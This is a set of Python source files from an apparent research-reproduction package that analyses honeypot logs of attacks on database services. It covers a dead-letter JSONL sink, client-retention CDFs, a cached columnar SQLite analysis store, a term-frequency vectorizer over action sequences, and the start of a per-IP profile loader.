    "from_payload", "install", "install_local", "is_sqlite_busy",
    "load_plan", "plan_from_dict", "read_dead_letters", "run_with_retry",
    "slow_loris", "sqlite_busy_retry",
]
