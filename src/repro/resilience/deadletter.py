"""Dead-letter JSONL sink for quarantined work.

When crash containment pulls a poisoned visit (or any other unit of
work) out of the main data path, its events and failure reason land
here instead of vanishing -- the file is the audit trail that makes the
conservation invariant ``generated == stored + quarantined`` checkable,
and each record carries enough context to replay the failure.
"""

from __future__ import annotations

import json
import os
from dataclasses import asdict, is_dataclass
from pathlib import Path
from typing import IO, Iterable

from repro import obs


class DeadLetterWriter:
    """Append-only writer of one JSON object per quarantined record.

    The file is created lazily on the first quarantine, so clean runs
    leave no empty dead-letter file behind.

    ``resume=(bytes, count)`` continues an existing file the resume
    preparation already truncated to its committed length;
    :meth:`commit` fsyncs and reports the committed state for a
    run-journal checkpoint.
    """

    def __init__(self, path: str | Path, *,
                 resume: tuple[int, int] | None = None):
        self.path = Path(path)
        self.count = resume[1] if resume else 0
        self._committed_bytes = resume[0] if resume else 0
        self._append = resume is not None
        self._handle: IO[str] | None = None

    def quarantine(self, kind: str, reason: str, *,
                   events: Iterable[object] = (),
                   **context: object) -> dict:
        """Record one quarantined unit; returns the record written."""
        record = {
            "kind": kind,
            "reason": reason,
            **context,
            "events": [asdict(event) if is_dataclass(event) else event
                       for event in events],
        }
        if self._handle is None:
            self.path.parent.mkdir(parents=True, exist_ok=True)
            self._handle = open(self.path,
                                "a" if self._append else "w",
                                encoding="utf-8")
        self._handle.write(json.dumps(record, separators=(",", ":"),
                                      ensure_ascii=False) + "\n")
        self._handle.flush()
        self.count += 1
        obs.current().metrics.inc("resilience.dead_letters", kind=kind)
        return record

    def commit(self) -> dict:
        """Fsync the file; returns ``{"bytes": int, "count": int}``."""
        if self._handle is not None:
            self._handle.flush()
            os.fsync(self._handle.fileno())
            self._committed_bytes = self.path.stat().st_size
        return {"bytes": self._committed_bytes, "count": self.count}

    def close(self) -> None:
        """Flush and close the underlying file (idempotent)."""
        if self._handle is not None:
            self._handle.close()
            self._handle = None

    def __enter__(self) -> "DeadLetterWriter":
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.close()


def read_dead_letters(path: str | Path) -> list[dict]:
    """Load every record of a dead-letter file (for tests and triage)."""
    records = []
    with open(path, encoding="utf-8") as handle:
        for line in handle:
            line = line.strip()
            if line:
                records.append(json.loads(line))
    return records
