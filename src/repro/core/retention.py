"""Client retention analysis (Figures 3 and 5).

Retention is the number of distinct experiment days a source IP was
seen on.  Figure 3 plots the CDF per DBMS for the low-interaction tier;
Figure 5 plots it per behavior class for the medium/high tier, where
exploiters turn out to be the most persistent.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

from repro.core.classification import BehaviorClass, Classification
from repro.core.loading import IpProfile

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.core.store import AnalysisStore

Profiles = "dict[tuple[str, str], IpProfile] | AnalysisStore"


def _as_profiles(profiles) -> dict[tuple[str, str], IpProfile]:
    """Accept either a profile map or an :class:`AnalysisStore`."""
    from repro.core.store import AnalysisStore

    if isinstance(profiles, AnalysisStore):
        return profiles.profiles()
    return profiles


@dataclass(frozen=True)
class RetentionCdf:
    """An empirical CDF over active-day counts."""

    label: str
    #: Sorted (days, cumulative_fraction) points.
    points: tuple[tuple[int, float], ...]
    population: int

    def at(self, days: int) -> float:
        """P(active_days <= days)."""
        fraction = 0.0
        for point_days, cumulative in self.points:
            if point_days > days:
                break
            fraction = cumulative
        return fraction

    def mean_days(self) -> float:
        """Mean active days."""
        previous = 0.0
        total = 0.0
        for point_days, cumulative in self.points:
            total += point_days * (cumulative - previous)
            previous = cumulative
        return total


def _cdf(label: str, day_counts: list[int]) -> RetentionCdf:
    if not day_counts:
        return RetentionCdf(label, (), 0)
    counts: dict[int, int] = {}
    for days in day_counts:
        counts[days] = counts.get(days, 0) + 1
    total = len(day_counts)
    points = []
    cumulative = 0
    for days in sorted(counts):
        cumulative += counts[days]
        points.append((days, cumulative / total))
    return RetentionCdf(label, tuple(points), total)


def retention_by_dbms(profiles: "dict[tuple[str, str], IpProfile] | AnalysisStore",
                      ) -> dict[str, RetentionCdf]:
    """Figure 3: one CDF per DBMS."""
    profiles = _as_profiles(profiles)
    day_counts: dict[str, list[int]] = {}
    for (ip, dbms), profile in profiles.items():
        day_counts.setdefault(dbms, []).append(profile.active_days)
    return {dbms: _cdf(dbms, counts)
            for dbms, counts in sorted(day_counts.items())}


def retention_overall(profiles: "dict[tuple[str, str], IpProfile] | AnalysisStore",
                      ) -> RetentionCdf:
    """Retention over unique IPs across all services."""
    profiles = _as_profiles(profiles)
    per_ip: dict[str, set[int]] = {}
    for (ip, dbms), profile in profiles.items():
        per_ip.setdefault(ip, set()).update(profile.days_seen)
    return _cdf("all", [len(days) for days in per_ip.values()])


def retention_by_class(profiles: "dict[tuple[str, str], IpProfile] | AnalysisStore",
                       classifications: dict[tuple[str, str],
                                             Classification],
                       ) -> dict[BehaviorClass, RetentionCdf]:
    """Figure 5: one CDF per behavior class (by primary class, unique
    IPs)."""
    profiles = _as_profiles(profiles)
    severity = {BehaviorClass.SCANNING: 0, BehaviorClass.SCOUTING: 1,
                BehaviorClass.EXPLOITING: 2}
    per_ip_class: dict[str, BehaviorClass] = {}
    per_ip_days: dict[str, set[int]] = {}
    for key, profile in profiles.items():
        ip = key[0]
        primary = classifications[key].primary
        current = per_ip_class.get(ip)
        if current is None or severity[primary] > severity[current]:
            per_ip_class[ip] = primary
        per_ip_days.setdefault(ip, set()).update(profile.days_seen)
    day_counts: dict[BehaviorClass, list[int]] = {
        cls: [] for cls in BehaviorClass}
    for ip, cls in per_ip_class.items():
        day_counts[cls].append(len(per_ip_days[ip]))
    return {cls: _cdf(cls.value, counts)
            for cls, counts in day_counts.items()}


def single_day_fraction(cdf: RetentionCdf) -> float:
    """Fraction of clients seen on exactly one day (the paper: 43%)."""
    return cdf.at(1)
