"""Columnar analysis store with content-keyed caching.

Every headline result of the paper (Tables 5-12, Figures 2-9, the
Section 6 cluster review) is a derived view over one converted SQLite
``events`` table.  Before this module existed, each of the ~30 report
and figure builders independently re-scanned that table and rebuilt
Python :class:`~repro.core.loading.IpProfile` objects from scratch.
The :class:`AnalysisStore` replaces that with a three-level pipeline:

1. **One scan.**  The events table is loaded once per store into a
   compact columnar form (:class:`ColumnarEvents`): interned,
   dictionary-encoded string columns plus numpy arrays for timestamps
   and numeric fields.  Filtered slices (``interaction=...`` /
   ``dbms=...``) are served from the in-memory columns by boolean mask
   when the full table is already loaded, and otherwise *pushed down*
   into SQL ``WHERE`` clauses that hit the converter's indexes instead
   of filtering Python-side.

2. **Derived-artifact caching.**  Expensive derived artifacts --
   profile maps, TF matrices (:mod:`repro.core.tf`), linkage matrices
   (:mod:`repro.core.clustering`) -- are memoized in memory and
   persisted to disk, keyed by a SHA-256 **content digest** of the
   database file plus the query/clustering parameters.  A modified
   database yields a different digest, so stale artifacts are never
   served; they are simply ignored on disk (and unreadable/corrupt
   cache files are treated as misses, never errors).

3. **Observability.**  Cache hits/misses, stale reads, scan time, and
   per-kind build times are reported through :mod:`repro.obs` under the
   ``analysis.*`` metrics family, and mirrored into the store's local
   :attr:`AnalysisStore.stats` dict for callers without a telemetry
   bundle installed.

The cache lives in ``<database>.cache/`` next to the database by
default; ``REPRO_ANALYSIS_CACHE_DIR`` relocates it and
``REPRO_ANALYSIS_CACHE=0`` (or ``repro report --no-cache``) disables
persistence entirely.
"""

from __future__ import annotations

import hashlib
import os
import pickle
import sys
import time
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Iterator

import numpy as np

from repro import obs
from repro.core.classification import Classification, classify_ips
from repro.core.clustering import AgglomerativeClustering
from repro.core.loading import (IpProfile, action_sequences,
                                build_profiles)
from repro.core.tf import TfVectorizer
from repro.pipeline.convert import open_database

__all__ = [
    "AnalysisStore", "ColumnarEvents", "StringColumn", "TfArtifact",
    "CACHE_DIR_ENV", "CACHE_TOGGLE_ENV", "borrow_store",
]

#: Relocates the on-disk cache (a directory; one subdir per database).
CACHE_DIR_ENV = "REPRO_ANALYSIS_CACHE_DIR"
#: Set to ``0`` / ``off`` / ``false`` / ``no`` to disable persistence.
CACHE_TOGGLE_ENV = "REPRO_ANALYSIS_CACHE"

#: Bump when the columnar layout or artifact formats change; old cache
#: files then simply stop matching and are ignored.
_CACHE_VERSION = 1

_SCAN_COLUMNS = (
    "timestamp", "src_ip", "dbms", "interaction", "config", "country",
    "asn", "as_name", "as_type", "institutional", "event_type",
    "action", "username", "password", "raw",
)


@dataclass(frozen=True)
class StringColumn:
    """A dictionary-encoded string column.

    ``codes[i]`` indexes into ``pool``; ``-1`` encodes SQL ``NULL``.
    Pool strings are interned, so equal values share one object across
    columns and across cache reloads.
    """

    codes: np.ndarray
    pool: tuple[str, ...]

    def __len__(self) -> int:
        return len(self.codes)

    def decode(self) -> list[str | None]:
        """Materialize the column as a list of Python strings."""
        pool = self.pool
        return [pool[code] if code >= 0 else None
                for code in self.codes.tolist()]

    def take(self, indices: np.ndarray) -> "StringColumn":
        """Row subset sharing this column's pool."""
        return StringColumn(self.codes[indices], self.pool)

    def eq_mask(self, value: str) -> np.ndarray:
        """Boolean mask of rows equal to ``value``."""
        try:
            code = self.pool.index(value)
        except ValueError:
            return np.zeros(len(self.codes), dtype=bool)
        return self.codes == code

    def unique_values(self) -> list[str]:
        """Distinct non-NULL values present (pool order)."""
        present = np.unique(self.codes)
        return [self.pool[code] for code in present.tolist() if code >= 0]


def _encode(values: list) -> StringColumn:
    index: dict[str, int] = {}
    pool: list[str] = []
    codes = np.empty(len(values), dtype=np.int32)
    for position, value in enumerate(values):
        if value is None:
            codes[position] = -1
            continue
        code = index.get(value)
        if code is None:
            code = index[value] = len(pool)
            pool.append(sys.intern(value))
        codes[position] = code
    return StringColumn(codes, tuple(pool))


@dataclass(frozen=True)
class ColumnarEvents:
    """The events table in columnar form, ordered by (timestamp, id)."""

    timestamps: np.ndarray  #: float64
    src_ip: StringColumn
    dbms: StringColumn
    interaction: StringColumn
    config: StringColumn
    country: StringColumn
    asn: np.ndarray  #: float64, NaN encodes NULL
    as_name: StringColumn
    as_type: StringColumn
    institutional: np.ndarray  #: bool
    event_type: StringColumn
    action: StringColumn
    username: StringColumn
    password: StringColumn
    raw: StringColumn

    @property
    def n(self) -> int:
        return len(self.timestamps)

    def select(self, mask: np.ndarray) -> "ColumnarEvents":
        """Row subset by boolean mask (order preserved)."""
        indices = np.flatnonzero(mask)
        return ColumnarEvents(
            timestamps=self.timestamps[indices],
            src_ip=self.src_ip.take(indices),
            dbms=self.dbms.take(indices),
            interaction=self.interaction.take(indices),
            config=self.config.take(indices),
            country=self.country.take(indices),
            asn=self.asn[indices],
            as_name=self.as_name.take(indices),
            as_type=self.as_type.take(indices),
            institutional=self.institutional[indices],
            event_type=self.event_type.take(indices),
            action=self.action.take(indices),
            username=self.username.take(indices),
            password=self.password.take(indices),
            raw=self.raw.take(indices),
        )

    def filter(self, *, interaction: str | None = None,
               dbms: str | None = None) -> "ColumnarEvents":
        """Filtered view; no-op when both filters are ``None``."""
        if interaction is None and dbms is None:
            return self
        mask = np.ones(self.n, dtype=bool)
        if interaction is not None:
            mask &= self.interaction.eq_mask(interaction)
        if dbms is not None:
            mask &= self.dbms.eq_mask(dbms)
        return self.select(mask)


@dataclass(frozen=True)
class TfArtifact:
    """A fitted TF featurization of one DBMS's action sequences."""

    ips: tuple[str, ...]
    vocabulary: dict[str, int]
    matrix: np.ndarray


def _scan_columnar(connection, *, interaction: str | None,
                   dbms: str | None) -> ColumnarEvents:
    """One ordered scan of ``events`` with WHERE pushdown."""
    clauses, params = [], []
    if interaction is not None:
        clauses.append("interaction = ?")
        params.append(interaction)
    if dbms is not None:
        clauses.append("dbms = ?")
        params.append(dbms)
    where = (" WHERE " + " AND ".join(clauses)) if clauses else ""
    cursor = connection.cursor()
    cursor.row_factory = None  # plain tuples: fastest fetch path
    rows = cursor.execute(
        f"SELECT {', '.join(_SCAN_COLUMNS)} FROM events{where} "
        "ORDER BY timestamp, id", params).fetchall()
    if not rows:
        empty = StringColumn(np.empty(0, dtype=np.int32), ())
        return ColumnarEvents(
            timestamps=np.empty(0), src_ip=empty, dbms=empty,
            interaction=empty, config=empty, country=empty,
            asn=np.empty(0), as_name=empty, as_type=empty,
            institutional=np.empty(0, dtype=bool), event_type=empty,
            action=empty, username=empty, password=empty, raw=empty)
    (timestamps, src_ip, dbms_col, interaction_col, config, country,
     asn, as_name, as_type, institutional, event_type, action,
     username, password, raw) = map(list, zip(*rows))
    return ColumnarEvents(
        timestamps=np.array(timestamps, dtype=np.float64),
        src_ip=_encode(src_ip),
        dbms=_encode(dbms_col),
        interaction=_encode(interaction_col),
        config=_encode(config),
        country=_encode(country),
        asn=np.array([np.nan if value is None else float(value)
                      for value in asn]),
        as_name=_encode(as_name),
        as_type=_encode(as_type),
        institutional=np.array(institutional, dtype=bool),
        event_type=_encode(event_type),
        action=_encode(action),
        username=_encode(username),
        password=_encode(password),
        raw=_encode(raw),
    )


def _cache_disabled_by_env() -> bool:
    return os.environ.get(CACHE_TOGGLE_ENV, "").strip().lower() in (
        "0", "off", "false", "no")


class AnalysisStore:
    """One converted database, loaded once, derived views cached.

    Parameters
    ----------
    db_path:
        A converted SQLite database (:mod:`repro.pipeline.convert`).
    cache_dir:
        Where derived artifacts persist; defaults to
        ``<db_path>.cache/`` (or under :data:`CACHE_DIR_ENV`).
    use_cache:
        When false, nothing is read from or written to disk; the store
        still memoizes in memory for its own lifetime.
    """

    def __init__(self, db_path: str | Path, *,
                 cache_dir: str | Path | None = None,
                 use_cache: bool = True):
        self.db_path = Path(db_path)
        self.use_cache = use_cache and not _cache_disabled_by_env()
        if cache_dir is None:
            base = os.environ.get(CACHE_DIR_ENV)
            if base:
                cache_dir = Path(base) / f"{self.db_path.name}.cache"
            else:
                cache_dir = self.db_path.with_name(
                    f"{self.db_path.name}.cache")
        self.cache_dir = Path(cache_dir)
        self._digest: str | None = None
        #: ``(st_mtime_ns, st_size)`` of the file the current digest /
        #: memo belong to; compared on every access so a long-lived
        #: store notices the database changing underneath it.
        self._digest_stat: tuple[int, int] | None = None
        self._memory: dict = {}
        self._connection = None
        #: Local mirror of the ``analysis.*`` metrics, for callers
        #: without an installed telemetry bundle (and the benchmarks).
        self.stats: dict = {"hits": 0, "misses": 0, "stale": 0,
                            "scans": 0, "scan_seconds": 0.0,
                            "build_seconds": {}}

    # -- plumbing ---------------------------------------------------------

    @classmethod
    def of(cls, source: "AnalysisStore | str | Path",
           **kwargs) -> "AnalysisStore":
        """Coerce a store-or-path into a store."""
        if isinstance(source, cls):
            return source
        return cls(source, **kwargs)

    def close(self) -> None:
        """Close the shared read-only connection (a later query reopens)."""
        if self._connection is not None:
            self._connection.close()
            self._connection = None

    def __enter__(self) -> "AnalysisStore":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()

    @property
    def connection(self):
        """The shared read-only connection (opened lazily)."""
        if self._connection is None:
            self._connection = open_database(self.db_path)
        return self._connection

    def query(self, sql: str, params=()):  # -> sqlite3.Cursor
        """Run an ad-hoc SQL query on the shared connection."""
        return self.connection.execute(sql, params)

    def rows(self, sql: str, params=()) -> list[tuple]:
        """Run an aggregate query, caching its rows by content digest.

        The workhorse of the SQL-backed table builders: the result set
        (a list of plain tuples) is keyed by the database digest plus
        the statement and its parameters, so a warm report suite never
        touches the events table at all -- not even for ``GROUP BY``
        aggregates.
        """
        key = (sql, tuple(params))

        def build() -> list[tuple]:
            cursor = self.connection.cursor()
            cursor.row_factory = None  # plain, picklable tuples
            return cursor.execute(sql, params).fetchall()

        return self._artifact("query", key, build)

    def _file_stat(self) -> tuple[int, int] | None:
        """``(st_mtime_ns, st_size)`` of the database, if it exists."""
        try:
            st = os.stat(self.db_path)
        except FileNotFoundError:
            return None
        return (st.st_mtime_ns, st.st_size)

    def _refresh(self) -> None:
        """Drop digest + memo when the database file changed on disk.

        A long-lived store (report -> re-run -> report in one process)
        must not serve artifacts keyed to a dead digest; the stat pair
        is taken *before* any hashing so a concurrent rewrite at worst
        causes one extra refresh, never a stale serve.
        """
        stat = self._file_stat()
        if stat == self._digest_stat:
            return
        if self._digest_stat is not None:
            self._memory.clear()
            # The old connection may point at a dead inode (the usual
            # rewrite is unlink + recreate); reopen lazily.
            self.close()
            self.stats["stale"] += 1
            obs.current().metrics.inc("analysis.store_refreshed")
        self._digest = None
        self._digest_stat = stat

    @property
    def digest(self) -> str:
        """SHA-256 content digest of the database file.

        Revalidated against ``(st_mtime_ns, st_size)`` on every access,
        so the digest -- and everything keyed by it -- tracks the file
        actually on disk.
        """
        self._refresh()
        if self._digest is None:
            digest = hashlib.sha256()
            with open(self.db_path, "rb") as handle:
                for chunk in iter(lambda: handle.read(1 << 20), b""):
                    digest.update(chunk)
            self._digest = digest.hexdigest()
        return self._digest

    def clear_cache(self) -> int:
        """Delete every persisted artifact; returns the file count."""
        removed = 0
        if self.cache_dir.is_dir():
            for path in self.cache_dir.glob("*.pkl"):
                path.unlink(missing_ok=True)
                removed += 1
        self._memory.clear()
        return removed

    # -- artifact cache ---------------------------------------------------

    def _cache_path(self, kind: str, params: tuple) -> Path:
        key = hashlib.sha256(
            f"{_CACHE_VERSION}:{kind}:{self.digest}:{params!r}"
            .encode("utf-8")).hexdigest()[:24]
        return self.cache_dir / f"{kind}-{key}.pkl"

    def _artifact(self, kind: str, params: tuple, build: Callable):
        """Memory -> disk -> build, recording hit/miss metrics."""
        self._refresh()
        metrics = obs.current().metrics
        memo_key = (kind, params)
        if memo_key in self._memory:
            self.stats["hits"] += 1
            metrics.inc("analysis.cache_hits", kind=kind, layer="memory")
            return self._memory[memo_key]
        if self.use_cache:
            path = self._cache_path(kind, params)
            value = self._load_artifact(path, kind)
            if value is not None:
                self.stats["hits"] += 1
                metrics.inc("analysis.cache_hits", kind=kind,
                            layer="disk")
                self._memory[memo_key] = value[0]
                return value[0]
        self.stats["misses"] += 1
        metrics.inc("analysis.cache_misses", kind=kind)
        start = time.perf_counter()
        result = build()
        elapsed = time.perf_counter() - start
        builds = self.stats["build_seconds"]
        builds[kind] = builds.get(kind, 0.0) + elapsed
        metrics.observe("analysis.build_seconds", elapsed, kind=kind)
        if self.use_cache:
            self._write_artifact(self._cache_path(kind, params), kind,
                                 params, result)
        self._memory[memo_key] = result
        return result

    def _load_artifact(self, path: Path, kind: str):
        """Read one artifact; stale/corrupt files count as misses.

        Returns a 1-tuple holding the value (so cached ``None`` would
        remain distinguishable from a miss), or ``None`` on miss.
        """
        if not path.exists():
            return None
        try:
            payload = pickle.loads(path.read_bytes())
            if (payload["version"] != _CACHE_VERSION
                    or payload["digest"] != self.digest):
                raise ValueError("cache entry does not match database")
            return (payload["value"],)
        except Exception:
            # A stale, truncated, or otherwise unreadable artifact is
            # ignored (and rebuilt), never an error.
            self.stats["stale"] += 1
            obs.current().metrics.inc("analysis.cache_stale", kind=kind)
            return None

    def _write_artifact(self, path: Path, kind: str, params: tuple,
                        value) -> None:
        payload = {"version": _CACHE_VERSION, "digest": self.digest,
                   "kind": kind, "params": params, "value": value}
        try:
            self.cache_dir.mkdir(parents=True, exist_ok=True)
            scratch = path.with_suffix(f".tmp.{os.getpid()}")
            scratch.write_bytes(
                pickle.dumps(payload, protocol=pickle.HIGHEST_PROTOCOL))
            os.replace(scratch, path)
        except OSError:
            # A read-only or full cache directory degrades to
            # memory-only caching rather than failing the analysis.
            obs.current().metrics.inc("analysis.cache_write_errors",
                                      kind=kind)

    # -- the one scan -----------------------------------------------------

    def events(self, *, interaction: str | None = None,
               dbms: str | None = None) -> ColumnarEvents:
        """The events table (or a filtered slice) in columnar form.

        The unfiltered table is scanned at most once per digest; when
        it is already in memory, filtered slices are boolean-mask views
        of it.  A filtered request with no full table loaded pushes the
        filters down into SQL instead (one indexed, filtered scan).
        """
        params = (interaction, dbms)
        self._refresh()
        if params != (None, None):
            full = self._memory.get(("events", (None, None)))
            if full is not None:
                memo_key = ("events", params)
                cached = self._memory.get(memo_key)
                if cached is None:
                    cached = self._memory[memo_key] = full.filter(
                        interaction=interaction, dbms=dbms)
                return cached
        return self._artifact("events", params,
                              lambda: self._scan(interaction, dbms))

    def _scan(self, interaction: str | None,
              dbms: str | None) -> ColumnarEvents:
        telemetry = obs.current()
        start = time.perf_counter()
        with telemetry.tracer.span("analysis.scan", db=self.db_path.name):
            columns = _scan_columnar(self.connection,
                                     interaction=interaction, dbms=dbms)
        elapsed = time.perf_counter() - start
        self.stats["scans"] += 1
        self.stats["scan_seconds"] += elapsed
        telemetry.metrics.observe("analysis.scan_seconds", elapsed,
                                  db=self.db_path.name)
        telemetry.metrics.inc("analysis.scan_rows", columns.n,
                              db=self.db_path.name)
        return columns

    # -- derived views ----------------------------------------------------

    def profiles(self, *, interaction: str | None = None,
                 dbms: str | None = None, start_ts: float | None = None,
                 ) -> dict[tuple[str, str], IpProfile]:
        """Per-(IP, DBMS) profiles (see :func:`load_ip_profiles`)."""
        params = ("v1", interaction, dbms, start_ts)

        def build() -> dict[tuple[str, str], IpProfile]:
            columns = self.events(interaction=interaction, dbms=dbms)
            base_ts = start_ts
            if base_ts is None:
                base_ts = (float(columns.timestamps[0])
                           if columns.n else 0.0)
            return build_profiles(columns, base_ts)

        return self._artifact("profiles", params, build)

    def classifications(self) -> dict[tuple[str, str], "Classification"]:
        """Per-(IP, DBMS) behavior classifications (cached).

        :func:`~repro.core.classification.classify_ips` is pure in the
        profile map, so one digest-keyed artifact serves every consumer
        (Table 8, Table 10/11, campaigns, the cluster review).
        """
        return self._artifact(
            "classify", ("v1",),
            lambda: classify_ips(self.profiles()))

    def sequences(self, *, dbms: str | None = None,
                  require_actions: bool = True) -> dict[str, list[str]]:
        """Per-IP action sequences (the clustering documents)."""
        return action_sequences(self.profiles(), dbms=dbms,
                                require_actions=require_actions)

    def tf(self, dbms: str) -> TfArtifact:
        """Fitted TF matrix over ``dbms``'s interactive IPs (cached)."""
        params = ("v1", dbms)

        def build() -> TfArtifact:
            sequences = self.sequences(dbms=dbms)
            ips = tuple(sorted(sequences))
            documents = [sequences[ip] for ip in ips]
            vectorizer = TfVectorizer()
            matrix = (vectorizer.fit_transform(documents) if documents
                      else np.zeros((0, 0)))
            return TfArtifact(ips=ips, vocabulary=vectorizer.vocabulary,
                              matrix=matrix)

        return self._artifact("tf", params, build)

    def linkage(self, dbms: str, *, method: str = "ward") -> np.ndarray:
        """Dendrogram over the TF matrix of ``dbms`` (cached)."""
        from repro.core.clustering import linkage as linkage_fn

        params = ("v1", dbms, method)

        def build() -> np.ndarray:
            artifact = self.tf(dbms)
            if len(artifact.ips) < 2:
                return np.empty((0, 4))
            return linkage_fn(artifact.matrix, method)

        return self._artifact("linkage", params, build)

    def cluster_labels(self, dbms: str, *,
                       distance_threshold: float = 0.18,
                       method: str = "ward",
                       ) -> dict[tuple[str, str], int]:
        """(ip, dbms) -> cluster label, from the cached dendrogram.

        Matches :func:`repro.core.reports.cluster_dbms` exactly: pure
        scanners are excluded, clusters cut at ``distance_threshold``.
        """
        artifact = self.tf(dbms)
        if not artifact.ips:
            return {}
        model = AgglomerativeClustering(
            distance_threshold=distance_threshold, method=method)
        model.fit(artifact.matrix,
                  linkage_matrix=self.linkage(dbms, method=method))
        return {(ip, dbms): int(label)
                for ip, label in zip(artifact.ips, model.labels_)}

    def hourly_series(self, *, interaction: str | None = None,
                      dbms: str | None = None, label: str | None = None):
        """Figure 2 series for one slice (see :mod:`repro.core.temporal`)."""
        from repro.core.temporal import series_from_columns

        columns = self.events(interaction=interaction, dbms=dbms)
        if not columns.n:
            return series_from_columns(columns, label or "empty")
        return series_from_columns(columns, label or (dbms or "all"))

    def per_dbms_series(self, *, interaction: str = "low") -> dict:
        """Figures 6-9: one hourly series per DBMS."""
        from repro.core.temporal import series_from_columns

        sliced = self.events(interaction=interaction)
        return {name: series_from_columns(
                    sliced.filter(dbms=name), name)
                for name in sorted(sliced.dbms.unique_values())}


@contextmanager
def borrow_store(source: AnalysisStore | str | Path, *,
                 use_cache: bool = False) -> Iterator[AnalysisStore]:
    """Yield ``source`` as a store; close it only if we created it.

    Path-based callers get a private, uncached store (the pre-store
    behavior: fresh connection, no cache side effects next to the
    database); store-based callers share the caller's cache and
    connection.
    """
    if isinstance(source, AnalysisStore):
        yield source
        return
    store = AnalysisStore(source, use_cache=use_cache)
    try:
        yield store
    finally:
        store.close()
