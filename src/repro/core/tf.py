"""Term-frequency feature vectors over action sequences.

Implements the paper's Section 6.1 featurization: each source IP's
ordered sequence of actions is a document, each action a term, and

    tf(t, d) = count(t in d) / len(d)

is the feature value -- duplicates included, so a bot that issues
``CONFIG SET`` eight times looks different from one that issues it once.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np


@dataclass
class TfVectorizer:
    """Fits a vocabulary over action sequences and emits TF matrices."""

    vocabulary: dict[str, int] = field(default_factory=dict)

    def fit(self, documents: list[list[str]]) -> "TfVectorizer":
        """Learn the vocabulary (sorted for determinism)."""
        terms = sorted({term for document in documents
                        for term in document})
        self.vocabulary = {term: index for index, term in enumerate(terms)}
        return self

    def transform(self, documents: list[list[str]]) -> np.ndarray:
        """Vectorize ``documents`` into a dense (n_docs, n_terms) matrix.

        Unknown terms are ignored; an empty document maps to the zero
        vector.

        Raises
        ------
        RuntimeError
            If called before :meth:`fit`.
        """
        if not self.vocabulary:
            raise RuntimeError("vectorizer must be fitted first")
        matrix = np.zeros((len(documents), len(self.vocabulary)))
        for row, document in enumerate(documents):
            if not document:
                continue
            for term in document:
                column = self.vocabulary.get(term)
                if column is not None:
                    matrix[row, column] += 1.0
            matrix[row] /= len(document)
        return matrix

    def fit_transform(self, documents: list[list[str]]) -> np.ndarray:
        """Fit and transform in one step."""
        return self.fit(documents).transform(documents)

    def binary_transform(self, documents: list[list[str]]) -> np.ndarray:
        """Set-of-actions (0/1) features -- the ablation baseline."""
        if not self.vocabulary:
            raise RuntimeError("vectorizer must be fitted first")
        matrix = np.zeros((len(documents), len(self.vocabulary)))
        for row, document in enumerate(documents):
            for term in set(document):
                column = self.vocabulary.get(term)
                if column is not None:
                    matrix[row, column] = 1.0
        return matrix
