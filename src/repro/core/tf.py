"""Term-frequency feature vectors over action sequences.

Implements the paper's Section 6.1 featurization: each source IP's
ordered sequence of actions is a document, each action a term, and

    tf(t, d) = count(t in d) / len(d)

is the feature value -- duplicates included, so a bot that issues
``CONFIG SET`` eight times looks different from one that issues it once.

Matrix construction is vectorized: terms are mapped to column ids in
one pass (unknown terms fall into a sentinel column that is dropped),
and the per-document counts come from a single ``bincount`` over
flattened (row, column) pairs instead of a Python-level accumulation
loop per term.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np


@dataclass
class TfVectorizer:
    """Fits a vocabulary over action sequences and emits TF matrices."""

    vocabulary: dict[str, int] = field(default_factory=dict)

    def fit(self, documents: list[list[str]]) -> "TfVectorizer":
        """Learn the vocabulary (sorted for determinism)."""
        terms = sorted(set().union(*documents) if documents else ())
        self.vocabulary = {term: index for index, term in enumerate(terms)}
        return self

    def _counts(self, documents: list[list[str]]) -> np.ndarray:
        """(n_docs, n_terms + 1) term counts; the last column collects
        unknown terms and is sliced away by the callers."""
        n_docs = len(documents)
        n_terms = len(self.vocabulary)
        lengths = np.fromiter((len(document) for document in documents),
                              dtype=np.int64, count=n_docs)
        total = int(lengths.sum())
        width = n_terms + 1
        if not total:
            return np.zeros((n_docs, width))
        unknown = n_terms
        get = self.vocabulary.get
        columns = np.fromiter(
            (get(term, unknown) for document in documents
             for term in document), dtype=np.int64, count=total)
        rows = np.repeat(np.arange(n_docs, dtype=np.int64), lengths)
        flat = np.bincount(rows * width + columns,
                           minlength=n_docs * width)
        return flat.reshape(n_docs, width).astype(float)

    def transform(self, documents: list[list[str]]) -> np.ndarray:
        """Vectorize ``documents`` into a dense (n_docs, n_terms) matrix.

        Unknown terms are ignored; an empty document maps to the zero
        vector.

        Raises
        ------
        RuntimeError
            If called before :meth:`fit`.
        """
        if not self.vocabulary:
            raise RuntimeError("vectorizer must be fitted first")
        matrix = self._counts(documents)[:, :len(self.vocabulary)]
        lengths = np.fromiter((len(document) for document in documents),
                              dtype=np.float64, count=len(documents))
        nonzero = lengths > 0
        matrix[nonzero] /= lengths[nonzero, None]
        return matrix

    def fit_transform(self, documents: list[list[str]]) -> np.ndarray:
        """Fit and transform in one step."""
        return self.fit(documents).transform(documents)

    def binary_transform(self, documents: list[list[str]]) -> np.ndarray:
        """Set-of-actions (0/1) features -- the ablation baseline."""
        if not self.vocabulary:
            raise RuntimeError("vectorizer must be fitted first")
        counts = self._counts(documents)[:, :len(self.vocabulary)]
        return (counts > 0).astype(float)
