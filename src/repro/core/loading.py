"""Load per-IP views from a converted SQLite database.

The analysis operates on two shapes of data:

* :class:`IpProfile` -- per-(IP, DBMS) aggregates: event counts, first /
  last day seen, source metadata, and the ordered action sequence used
  for classification and clustering;
* raw event iteration for the table builders in
  :mod:`repro.core.reports`.
"""

from __future__ import annotations

import hashlib
import sqlite3
from dataclasses import dataclass, field
from pathlib import Path

from repro.pipeline.convert import open_database

#: Seconds per day, used to bucket timestamps into experiment days.
DAY_SECONDS = 86400.0


@dataclass
class IpProfile:
    """Everything observed from one source IP against one DBMS."""

    src_ip: str
    dbms: str
    country: str = "Unknown"
    asn: int | None = None
    as_name: str = "Unknown"
    as_type: str = "Unknown"
    institutional: bool = False
    connects: int = 0
    login_attempts: int = 0
    #: Distinct (username, password) pairs tried.
    credentials: set[tuple[str, str]] = field(default_factory=set)
